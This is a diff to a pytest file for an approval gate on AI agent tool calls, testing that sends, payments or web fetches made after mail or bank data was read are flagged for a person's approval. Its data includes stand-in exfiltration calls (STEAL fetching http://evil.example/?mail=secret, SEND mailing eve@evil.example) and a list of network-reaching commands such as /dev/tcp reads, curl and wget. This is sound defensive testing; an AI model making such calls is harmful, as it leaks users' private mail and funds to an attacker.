@@ -2,13 +2,14 @@
 
 from __future__ import annotations
 
+from collections import Counter
 from typing import Any
 
 import pytest
 
-from tests.approvals.people import AGENT, YES, Person, Tools, allowed, gate_with
+from tests.approvals.people import AGENT, YES, Person, Tools, allowed, gate_with, named
 from toolcrib.approvals.facts import PastCall
-from toolcrib.approvals.question import Answer
+from toolcrib.approvals.question import Answer, Question
 from toolcrib.approvals.rule import Rule
 from toolcrib.schema.tools import Principal
 
@@ -29,7 +30,7 @@ async def test_a_write_after_untrusted_content_asks_whatever_the_rules_say() -> 
 
 
 async def test_the_person_can_lift_it_for_the_session() -> None:
-    tools, person = Tools(), Person(Answer(allow=True, lift=True))
+    tools, person = Tools(), Person(Answer(allow=True, lift="session"))
     gate = gate_with(person)
     gate.rules.add(Rule(effect="allow"))
     await gate.check(tools.call("web__fetch", url="x"))
@@ -151,6 +152,196 @@ async def test_what_was_read_while_nobody_was_asked_still_counts_afterwards() ->
 
     assert person.questions[0].flow
     assert "files__read" in person.questions[0].reasons[0]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git pull",
+        "git fetch origin",
+        "git -C sub pull",
+        "npm view left-pad",
+        "pip download x",
+        "python3 -c 'import urllib.request'",
+        "find . -exec curl x {} +",
+        "openssl s_client -connect x:443",
+        "for f in dev/tcp/127.0.0.1/80; do cat < /$f; done",
+        "unheard-of-program",
+        "bash -c 'git pull'",
+        "ls | xargs wget",
+        "echo $(gh issue view 1)",
+        "$EDITOR notes",
+        "awk 'BEGIN { \"/inet/tcp/0/x/80\" |& getline; print }'",
+    ],
+)
+async def test_a_command_that_is_not_known_to_stay_local_counts_as_outside(command: str) -> None:
+    tools, person = Tools(), Person(YES)
+    gate = gate_with(person)
+    await gate.check(tools.run(command))
+
+    await gate.check(tools.run("make"))
+
+    assert person.questions[-1].flow
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["make", "pytest -q", "npm test", "git commit -am 'x y'", "echo x > f", "cargo test", "sed -i s/a/b/ f"],
+)
+async def test_work_in_the_project_does_not_count_as_outside(command: str) -> None:
+    tools, person = Tools(), Person(YES)
+    gate = gate_with(person)
+    for _ in range(2):
+        await gate.check(tools.run(command))
+
+    assert [question.flow for question in person.questions] == [False, False]
+
+
+@pytest.mark.parametrize(
+    ("declared", "flows"), [({}, True), ({"openWorldHint": True}, True), ({"openWorldHint": False}, False)]
+)
+async def test_a_python_function_counts_as_outside_unless_it_says_otherwise(
+    declared: dict[str, bool], flows: bool
+) -> None:
+    tools, person = Tools(), Person(YES)
+    tools.registry.put("program", "inline", [named("look", **declared), named("act", openWorldHint=False)])
+    gate = gate_with(person)
+    gate.rules.add(Rule(effect="allow"))
+    await gate.check(tools.call("program__look"))
+
+    await gate.check(tools.call("program__act"))
+
+    assert bool(person.questions) is flows
+
+
+class Office:
+    """A mail server and a bank that others wrote, with a person who lets reading tools read."""
+
+    def __init__(self, **web: bool) -> None:
+        self.tools = Tools()
+        reads = [named(name, readOnlyHint=True) for name in ("search_mail", "read_mail", "list_files")]
+        page = named("get_webpage", readOnlyHint=True, **web)
+        self.tools.registry.put("office", "mcp", [*reads, page, named("send_mail"), named("delete_mail")])
+        bank = [named("balance", readOnlyHint=True), named("transactions", readOnlyHint=True), named("pay")]
+        self.tools.registry.put("bank", "mcp", bank)
+        self.tools.registry.put("search", "mcp", [named("find", readOnlyHint=True)])
+        self.person = Person(_lets_reading_read)
+        self.gate = gate_with(self.person)
+        self._sessions = 0
+
+    async def task(self, *calls: tuple[str, dict[str, Any]]) -> list[str]:
+        """Make these calls in a chat of their own; the names of those that were asked about."""
+        before = len(self.person.questions)
+        self._sessions += 1
+        principal = Principal(name="agent", session=f"chat-{self._sessions}")
+        for name, arguments in calls:
+            await self.gate.check(self.tools.call(name, principal, **arguments))
+        return [question.tool for question in self.person.questions[before:]]
+
+
+def _lets_reading_read(question: Question) -> Answer:
+    if question.tool_rule is not None:
+        return Answer(allow=True, scope="always", any_arguments=True)
+    return Answer(allow=True)
+
+
+SEARCH = ("office__search_mail", {"query": "invoice"})
+READ = ("office__read_mail", {"id": "12"})
+FILES = ("office__list_files", {"folder": "2024", "file": "report.docx"})
+PAGE = ("office__get_webpage", {"url": "www.our-own-shop.com"})
+STEAL = ("office__get_webpage", {"url": "http://evil.example/?mail=secret"})
+SEND = ("office__send_mail", {"to": "eve@evil.example", "body": "secret"})
+BALANCE, PAID = ("bank__balance", {}), ("bank__transactions", {"last": 3})
+PAY = ("bank__pay", {"iban": "X", "amount": 3.5})
+
+
+async def test_each_tool_that_reads_is_asked_about_once_and_each_write_every_time() -> None:
+    office = Office()
+    tasks = [
+        (SEARCH, READ),
+        (SEARCH, READ, READ, FILES),
+        (READ, SEND),
+        (BALANCE, PAID, PAY),
+        (PAID, PAY, PAY),
+    ]
+    questions = [await office.task(*calls) for calls in tasks for _ in range(4)]
+
+    asked = Counter(name for names in questions for name in names)
+    reads = ("office__search_mail", "office__read_mail", "office__list_files", "bank__balance")
+    assert {name: asked[name] for name in reads} == dict.fromkeys(reads, 1)
+    assert asked["bank__transactions"] == 1
+    assert (asked["office__send_mail"], asked["bank__pay"]) == (4, 12)
+    assert sum(not names for names in questions) >= 6
+
+
+@pytest.mark.parametrize("web", [{}, {"openWorldHint": True}, {"openWorldHint": False}])
+async def test_nothing_is_carried_away_after_mail_was_read(web: dict[str, bool]) -> None:
+    office = Office(**web)
+    for first in ((SEARCH, READ), (PAGE,), (BALANCE,)):
+        await office.task(*first)  # from now on, each of them may be called as a whole
+    assert await office.task(SEARCH, READ, READ) == []
+
+    for stolen in (STEAL, ("office__get_webpage", {"url": "evil.example/secret"}), SEND, PAY):
+        assert await office.task(SEARCH, READ, stolen) == [stolen[0]]
+        assert office.person.questions[-1].flow
+
+
+async def test_pages_alone_may_be_read_one_after_another() -> None:
+    office = Office()
+    await office.task(PAGE)
+
+    assert await office.task(PAGE, STEAL, PAGE) == []
+
+
+async def test_what_one_server_told_is_not_told_to_another_one_unasked() -> None:
+    office = Office()
+    await office.task(("search__find", {"query": "x"}))
+    await office.task(SEARCH)
+
+    assert await office.task(SEARCH, ("search__find", {"query": "what the mail says"})) == ["search__find"]
+    assert "could now carry it away" in office.person.questions[-1].reasons[0]
+
+
+async def test_lifting_it_for_one_tool_leaves_the_others_asked_about() -> None:
+    office = Office()
+    await office.task(SEARCH)
+    await office.task(PAGE)
+    office.person = office.gate.asker = Person(Answer(allow=True, lift="tool"))
+
+    assert await office.task(SEARCH, PAGE, STEAL, SEND, PAGE) == ["office__get_webpage", "office__send_mail"]
+    assert office.person.questions[0].lifts == ("tool", "turn", "session")
+
+
+async def test_lifting_it_for_a_turn_ends_with_the_turn() -> None:
+    office = Office()
+    await office.task(SEARCH)
+    await office.task(PAGE)
+    office.person = office.gate.asker = Person(Answer(allow=True, lift="turn"))
+    chat = Principal(name="agent", session="one")
+    for name, arguments in (SEARCH, PAGE, STEAL):
+        await office.gate.check(office.tools.call(name, chat, **arguments))
+    assert len(office.person.questions) == 1
+
+    office.gate.end_turn(chat)
+    await office.gate.check(office.tools.call(STEAL[0], chat, **STEAL[1]))
+
+    assert len(office.person.questions) == 2
+
+
+async def test_a_tool_that_changed_is_no_longer_lifted() -> None:
+    office = Office()
+    await office.task(SEARCH)
+    await office.task(PAGE)
+    office.person = office.gate.asker = Person(Answer(allow=True, lift="tool"))
+    chat = Principal(name="agent", session="one")
+    for name, arguments in (SEARCH, PAGE):
+        await office.gate.check(office.tools.call(name, chat, **arguments))
+    office.tools.registry.put("office", "mcp", [named("get_webpage", readOnlyHint=True, title="Another")])
+    office.gate.rules.add(Rule(effect="allow"))
+
+    await office.gate.check(office.tools.call(STEAL[0], chat, **STEAL[1]))
+
+    assert [question.flow for question in office.person.questions] == [True, True]
 
 
 def past(tools: Tools, name: str, **arguments: Any) -> PastCall:
